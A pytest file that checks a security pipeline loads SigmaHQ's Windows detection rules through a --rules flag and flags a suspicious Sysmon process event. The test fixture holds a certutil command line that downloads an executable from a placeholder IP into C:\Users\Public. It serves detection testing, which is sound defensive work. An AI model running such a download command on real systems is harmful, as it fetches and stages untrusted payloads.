"""Turning SigmaHQ's Windows rules on in the detector: `socpipe detect run --rules PATH` (or a
`rules:` entry / SOCPIPE_RULES) adds them to the configured rules, and the worker's loader then
detects on forwarded Windows events with them."""

from __future__ import annotations

from pathlib import Path

import pytest
from click.testing import CliRunner

from detectors.normalise import parse_line
from pipeline.cli.detect import _load, detect
from tests.unit.test_normalise_windows import SHAPES

WINDOWS_RULES = Path(__file__).resolve().parents[2].parent / "shared" / "sigma" / "rules-windows"


def test_rules_flag_adds_to_the_configured_rules(monkeypatch, tmp_path) -> None:
    monkeypatch.delenv("SOCPIPE_RULES", raising=False)
    assert _load(None, (str(tmp_path),)).rules == ["rules", str(tmp_path)]
    assert _load(None, ("rules", str(tmp_path), str(tmp_path))).rules == ["rules", str(tmp_path)]  # each once
    monkeypatch.setenv("SOCPIPE_RULES", "[rules, other]")
    assert _load(None, (str(tmp_path),)).rules == ["rules", "other", str(tmp_path)]


def test_rules_flag_refuses_a_missing_path() -> None:
    res = CliRunner().invoke(detect, ["run", "--rules", "/nonexistent/rules-windows"])
    assert res.exit_code == 2 and "does not exist" in res.output


@pytest.mark.skipif(not WINDOWS_RULES.is_dir(), reason="../shared/sigma/rules-windows missing")
def test_sigmahq_windows_rules_added_by_the_flag_detect(monkeypatch) -> None:
    from detectors.sigma import Engine, load_rules

    monkeypatch.delenv("SOCPIPE_RULES", raising=False)
    cfg = _load(None, (str(WINDOWS_RULES),))
    loaded = load_rules(cfg.rules)  # what DetectorWorker does with cfg.rules
    assert not loaded.errors and len(loaded.rules) > 2400
    engine = Engine(loaded.rules)
    sysmon = ("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon")
    line = SHAPES["nxlog"](
        *sysmon,
        1,
        {
            "Image": "C:\\Windows\\System32\\certutil.exe",
            "OriginalFileName": "CertUtil.exe",
            "CommandLine": "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe",
            "ParentImage": "C:\\Windows\\System32\\cmd.exe",
        },
    )
    titles = {r.meta.title for r in engine.matching_rules(parse_line(line, timezone="UTC"))}
    assert any("certutil" in str(t).lower() for t in titles), titles
    without = Engine(load_rules(["rules"]).rules)  # the default `rules:` alone has no such rule
    assert not any("certutil" in str(r.meta.title).lower() for r in without.matching_rules(parse_line(line)))


@pytest.mark.skipif(not WINDOWS_RULES.is_dir(), reason="../shared/sigma/rules-windows missing")
def test_rules_lint_accounts_for_every_sigmahq_windows_rule() -> None:
    """`socpipe rules lint` on SigmaHQ's Windows folder: each rule loads or is reported with its file
    and reason (as measured 2026-12-06: all 2,407 load, and no rule names a field the Windows
    parsers never emit)."""
    import json

    from pipeline.cli.rules import rules_group

    res = CliRunner().invoke(rules_group, ["lint", "--json", str(WINDOWS_RULES)])
    report = json.loads(res.output)
    errored = {(e["path"], e["rule"]) for e in report["errors"]}
    assert report["loaded"] + len(errored) == report["total"] >= 2407
    assert all(e["path"] and e["message"] for e in report["errors"] + report["warnings"])
    assert report["loaded"] == report["total"] and not report["warnings"], report["errors"][:3] + report["warnings"][:3]
    assert res.exit_code == 0
